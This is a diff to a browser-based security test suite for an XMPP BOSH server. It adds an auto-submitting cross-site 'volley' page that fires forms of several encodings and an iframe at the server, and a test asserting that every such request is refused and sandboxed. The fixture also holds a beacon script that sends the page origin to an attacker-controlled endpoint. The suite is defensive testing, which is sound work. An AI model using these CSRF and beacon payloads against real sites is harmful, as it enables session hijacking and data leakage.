@@ -54,7 +54,9 @@ class Attacker:
         self.action = ""
         self.fields: dict[str, str] = {}
         self.hits: list[str] = []
-        self.server = StaticServer({}, routes={"/attack": self.attack, "/pwned": self.pwned})
+        self.server = StaticServer(
+            {}, routes={"/attack": self.attack, "/volley": self.volley, "/pwned": self.pwned}
+        )
 
     async def attack(self, request: web.Request) -> web.Response:
         inputs = "".join(
@@ -70,6 +72,28 @@ class Attacker:
         )
         return web.Response(text=page, content_type="text/html")
 
+    async def volley(self, request: web.Request) -> web.Response:
+        """Every other way a page can make the browser navigate to `action`, at once, each
+        into an iframe of its own: a form of each encoding (POST), a GET form, an iframe."""
+        action = html.escape(self.action, quote=True)
+        inputs = "".join(
+            f"<input type='hidden' name='{html.escape(n, quote=True)}' "
+            f"value='{html.escape(v, quote=True)}'>"
+            for n, v in self.fields.items()
+        )
+        frames, forms = [f"<iframe src='{action}'></iframe>"], []
+        for i, (method, enctype) in enumerate(VOLLEY):
+            frames.append(f"<iframe name='t{i}'></iframe>")
+            forms.append(
+                f"<form method='{method}' enctype='{enctype}' action='{action}' "
+                f"target='t{i}'>{inputs}</form>"
+            )
+        page = (
+            "<!doctype html><html><body>" + "".join(frames + forms) + "<script>"
+            "for (const f of document.forms) f.submit()</script></body></html>"
+        )
+        return web.Response(text=page, content_type="text/html")
+
     async def pwned(self, request: web.Request) -> web.Response:
         self.hits.append(str(request.rel_url))
         return web.Response(text="")
@@ -82,6 +106,15 @@ class Attacker:
             f"new Image().src='{url}'+encodeURIComponent(location.origin);"
             "</script>"
         )
+
+
+#: The forms of the volley page: (method, enctype).
+VOLLEY = [
+    ("POST", "text/plain"),
+    ("POST", "application/x-www-form-urlencoded"),
+    ("POST", "multipart/form-data"),
+    ("GET", "application/x-www-form-urlencoded"),
+]
 
 
 @session_loop
@@ -235,5 +268,56 @@ async def test_answer_is_inert_in_a_browser_without_fetch_metadata(
     headers = await response.all_headers()
     assert "sandbox" in headers.get("content-security-policy", ""), headers
     assert headers.get("x-content-type-options") == "nosniff", headers
+    await romeo_still_gets_it(romeo)
+    assert attacker.hits == [], attacker.hits
+
+
+async def test_every_kind_of_navigation_to_boshd_is_refused(
+    page: Page,
+    attacker: Attacker,
+    web_boshd_factory: WebBoshdFactory,
+    prosody: PrivateProsody,
+    web_users: dict[str, str],
+    juliet: NativeClient,
+) -> None:
+    """Issue 13 #2, the class: forms of every encoding (text/plain, urlencoded, multipart)
+    and GET forms and iframes, all into frames of a cross-site page, with
+    ``cors.allowed_origins = ["*"]``: every POST gets 403, every GET 405, each answer
+    sandboxed; romeo's session is untouched and the script in his queue never runs."""
+    server = await web_boshd_factory(cors={"allowed_origins": ["*"]})
+    romeo = await victim_with_a_trap(
+        server,
+        server.bosh_url,
+        prosody,
+        web_users,
+        juliet,
+        attacker.beacon_script("127.0.0.1"),
+    )
+    assert romeo.sid is not None
+    rid_before = last_rid(server, romeo.sid)
+    attacker.action = server.bosh_url
+    attacker.fields = form_fields(romeo.sid, romeo.rid + 1)
+    seen: list[Response] = []
+    page.on("response", lambda r: seen.append(r) if r.url.startswith(server.bosh_url) else None)
+    await page.goto(f"http://localhost:{attacker.server.port}/volley")
+    expected = len(VOLLEY) + 1  # the forms and the plain iframe
+    await eventually(lambda: len(seen) >= expected, 10.0)
+    await page.wait_for_load_state("load")
+    await assert_no_beacon(attacker)
+    methods = []
+    for response in seen:
+        sent = await response.request.all_headers()
+        headers = await response.all_headers()
+        method = response.request.method
+        methods.append((method, sent.get("content-type", "").split(";")[0]))
+        assert sent.get("sec-fetch-mode") == "navigate", sent
+        assert response.status == (403 if method == "POST" else 405), (method, sent)
+        assert "sandbox" in headers.get("content-security-policy", ""), headers
+        assert headers.get("x-content-type-options") == "nosniff", headers
+    assert sorted(methods) == sorted(
+        [(m, e if m == "POST" else "") for m, e in VOLLEY] + [("GET", "")]
+    ), methods
+    assert last_rid(server, romeo.sid) == rid_before
+    assert queued_bytes(server, romeo.sid) > 0
     await romeo_still_gets_it(romeo)
     assert attacker.hits == [], attacker.hits
